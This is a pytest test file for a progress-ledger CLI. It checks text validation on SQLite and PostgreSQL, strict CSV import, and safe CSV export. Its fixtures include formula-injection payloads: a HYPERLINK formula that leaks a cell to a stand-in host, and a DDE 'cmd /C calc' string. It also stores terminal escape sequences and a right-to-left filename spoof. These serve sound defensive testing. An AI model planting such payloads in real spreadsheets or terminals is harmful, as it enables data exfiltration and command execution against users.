"""The same text rules on SQLite and PostgreSQL, strict CSV import, and CSV that no spreadsheet runs.

Every refusal is one line with exit status 2 and nothing written; stored text reaches a terminal
without its control characters and a spreadsheet without a live formula, and an exported file
imports back to the same events.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime

import pytest
import sqlalchemy as sa

from geo.cli import main
from geo.cliformat import _width
from geo.errors import ProgressError
from geo.progress import NewEvent, add_event, list_events, open_ledger, parse_as_of
from geo.progress.ledger import MAX_AUTHOR, MAX_NOTE, MAX_SOURCE, parse_event_date

SEED_EVENTS = 5
HEADER = "item_id,date,phase,source,note,author\n"


def run_cli(capsys, database: str, *args: str) -> tuple[int, str, str]:
    code = main(["progress", "--database", database, *args])
    out, err = capsys.readouterr()
    return code, out, err


def refused(code: int, out: str, err: str) -> str:
    assert code == 2 and out == "", (code, out, err)
    assert err.count("\n") == 1 and err.startswith("error: "), err
    return err.strip()


def count(database: str) -> int:
    return len(list_events(open_ledger(database)))


# -- text rules ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("source", "a\x00b", "source contains the control character U+0000"),
        ("note", "a\x00b", "note contains the control character U+0000"),
        ("author", "a\x00b", "author contains the control character U+0000"),
        ("item_id", "air-leshan\x00", "item_id contains the control character U+0000"),
        ("source", "\x1b[2Jcleared", "source contains the control character U+001B"),
        ("note", "bell\x07", "note contains the control character U+0007"),
        ("author", "a\nb", "author contains the control character U+000A"),
        ("source", "evil\u202etxt.exe", "source contains the control character U+202E"),
        ("source", "x" * (MAX_SOURCE + 1), f"at most {MAX_SOURCE} are accepted"),
        ("note", "x" * (MAX_NOTE + 1), f"at most {MAX_NOTE} are accepted"),
        ("author", "x" * (MAX_AUTHOR + 1), f"at most {MAX_AUTHOR} are accepted"),
    ],
)
def test_the_same_text_rules_on_both_backends(database, field, value, message):
    fields = {"item_id": "air-leshan", "date": "2022-08", "phase": "开工", "source": "src"} | {field: value}
    before = count(database)
    with pytest.raises(ProgressError, match=re.escape(message)):
        add_event(open_ledger(database), NewEvent(**fields))
    assert count(database) == before


def test_a_nul_byte_in_an_import_is_one_line_on_both_backends(database, tmp_path, capsys):
    before = count(database)
    path = tmp_path / "nul.csv"
    path.write_text(HEADER + "air-leshan,2022,开工,ok,,\nair-leshan,2022,开工,a\x00b,,\n", encoding="utf-8")
    line = refused(*run_cli(capsys, database, "import", str(path)))
    assert line == "error: line 3: source contains the control character U+0000; remove it"
    assert count(database) == before


def test_notes_keep_their_lines_and_tabs_and_text_at_the_limits_is_kept(database):
    event = add_event(
        open_ledger(database),
        NewEvent(
            "air-leshan",
            "2022-08",
            "开工",
            "s" * MAX_SOURCE,
            note="第一行\r\n第二行\t制表",
            author="a" * MAX_AUTHOR,
        ),
    )
    assert event.note == "第一行\n第二行\t制表" and len(event.source) == MAX_SOURCE


@pytest.mark.parametrize("text", ["２０２４", "٢٠٢٤-٠٦", "2024-０６", "0001", "1066-10-14", "2024\n"])
def test_dates_take_ascii_digits_and_a_plausible_year(text):
    if text == "2024\n":  # surrounding white space is not part of the date
        assert parse_event_date(text) == (date(2024, 1, 1), "year")
        return
    with pytest.raises(ProgressError, match=r"use YYYY-MM-DD, YYYY-MM or YYYY in digits 0-9, from 1949"):
        parse_event_date(text)


@pytest.mark.parametrize("text", ["２０２４-06-01", "20240601", "0001-01-01", "2024-6-1"])
def test_as_of_days_take_one_form(text):
    with pytest.raises(ProgressError, match="use YYYY-MM-DD in digits 0-9"):
        parse_as_of(text)
    assert parse_as_of("2024-06-01") == date(2024, 6, 1)


def test_a_bad_date_on_the_command_line_says_the_accepted_form(capsys, tmp_path):
    url = f"sqlite:///{tmp_path / 'l.sqlite'}"
    line = refused(
        *run_cli(capsys, url, "add", "air-leshan", "--date", "２０２２", "--phase", "开工", "--source", "x")
    )
    assert "bad date: '２０２２'" in line and "YYYY-MM-DD, YYYY-MM or YYYY in digits 0-9" in line


# -- strict CSV import --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            'air-leshan,2022,开工,"unterminated,,\nair-wanzhou,2022,开工,b,,\nair-yaan,2022,开工,c,,\n',
            "line 2: a quoted field starting here is never closed (unterminated quote)",
        ),
        (
            'air-leshan,2022,开工,a,,\nair-wanzhou,2022,开工,"b" and more,,\n',
            "line 3: a quoted field starting here has text after its closing quote",
        ),
        ("air-leshan,2022,开工,a,,\nair-wanzhou,2022,开工,b\n", "line 3: 4 fields where the header has 6"),
        ("air-leshan,2022,开工,a,,,extra\n", "line 2: 7 fields where the header has 6"),
        ("air-leshan,2022,开工,a,,\n\nair-wanzhou,2022,开工\n", "line 4: 3 fields where the header has 6"),
    ],
)
def test_malformed_csv_is_refused_with_its_line_writing_nothing(database, tmp_path, capsys, body, message):
    before = count(database)
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + body, encoding="utf-8")
    line = refused(*run_cli(capsys, database, "import", str(path)))
    assert line.startswith(f"error: {message}"), line
    assert count(database) == before


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("item_id,date,phase,source,colour\n", "line 1: unknown column(s): 'colour'"),
        ("item_id,date,phase,source,source\n", "line 1: column(s) named twice: source"),
        ("", "the file is empty"),
    ],
)
def test_a_bad_header_is_refused(tmp_path, capsys, header, message):
    url = f"sqlite:///{tmp_path / 'l.sqlite'}"
    path = tmp_path / "bad.csv"
    path.write_text(header + ("air-leshan,2022,开工,a,b\n" if header else ""), encoding="utf-8")
    assert message in refused(*run_cli(capsys, url, "import", str(path)))


# -- formulas in CSV, control characters on the terminal -----------------------------------------
PAYLOADS = {
    "source": '=HYPERLINK("https://example.invalid/?leak="&A1,"官方来源")',
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "author": "-2+3",
}


def test_formula_cells_are_neutralised_and_import_back_to_the_same_text(database, tmp_path, capsys):
    code, _, err = run_cli(
        capsys, database, "add", "air-leshan", "--date", "2022-08", "--phase", "开工",
        *[f"--{field}={value}" for field, value in PAYLOADS.items()],
    )  # fmt: skip
    assert (code, err) == (0, "")
    add_event(open_ledger(database), NewEvent("air-yaan", "2022", "开工", "'=already quoted", note="+1"))
    exported = tmp_path / "events.csv"
    assert run_cli(capsys, database, "export", "--out", str(exported))[0] == 0
    rows = {row["item_id"]: row for row in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))}
    assert {field: rows["air-leshan"][field] for field in PAYLOADS} == {
        field: "'" + value for field, value in PAYLOADS.items()
    }
    assert rows["air-yaan"]["source"] == "''=already quoted" and rows["air-yaan"]["note"] == "'+1"
    assert rows["air-tianfu"]["source"].startswith("新华社")  # ordinary text as it is
    assert rows["air-leshan"]["id"].isdigit()  # numbers as they are

    copy = f"sqlite:///{tmp_path / 'copy.sqlite'}"
    open_ledger(copy, seed=False)
    code, out, err = run_cli(capsys, copy, "import", str(exported))
    assert (code, err) == (0, "") and f"imported {SEED_EVENTS + 2} events" in out

    def texts(url):
        return sorted((e.item_id, e.source, e.note, e.author) for e in list_events(open_ledger(url)))

    assert texts(copy) == texts(database)


def test_the_json_export_keeps_text_exact(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'l.sqlite'}"
    add_event(open_ledger(url), NewEvent("air-leshan", "2022", "开工", PAYLOADS["source"]))
    events = json.loads(run_cli(capsys, url, "export", "--format", "json")[1])
    assert PAYLOADS["source"] in [e["source"] for e in events]


def test_the_table_strips_stored_escape_codes_and_json_keeps_them(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'l.sqlite'}"
    ledger = open_ledger(url)
    stored = "\x1b[2J\x1b]0;owned\x07清屏\u202e来源\x9b31m"
    with ledger.engine.begin() as connection:  # as an older version, or another program, stored it
        connection.execute(
            sa.text(
                "INSERT INTO progress_events (item_id, event_date, date_precision, phase, source, note, "
                "author, recorded_at) VALUES ('air-leshan', :day, 'year', '开工', :source, '', :author, :now)"
            ),
            {"day": date(2022, 1, 1), "source": stored, "author": "a\x07b", "now": datetime.now(UTC)},
        )
    code, out, err = run_cli(capsys, url, "list", "air-leshan")
    assert (code, err) == (0, "")
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e")
    header, _, row = out.splitlines()
    assert row.split() == ["6", "air-leshan", "2022", "开工", "[2J]0;owned清屏来源31m", "ab"]
    # Still aligned: the column widths are measured on what is shown.
    assert _width(row[: row.index(" ab") + 1]) == _width(header[: header.index("记录人")])
    code, out, _ = run_cli(capsys, url, "list", "air-leshan", "--json")
    assert json.loads(out)[0]["source"] == stored and "\\u001b" in out
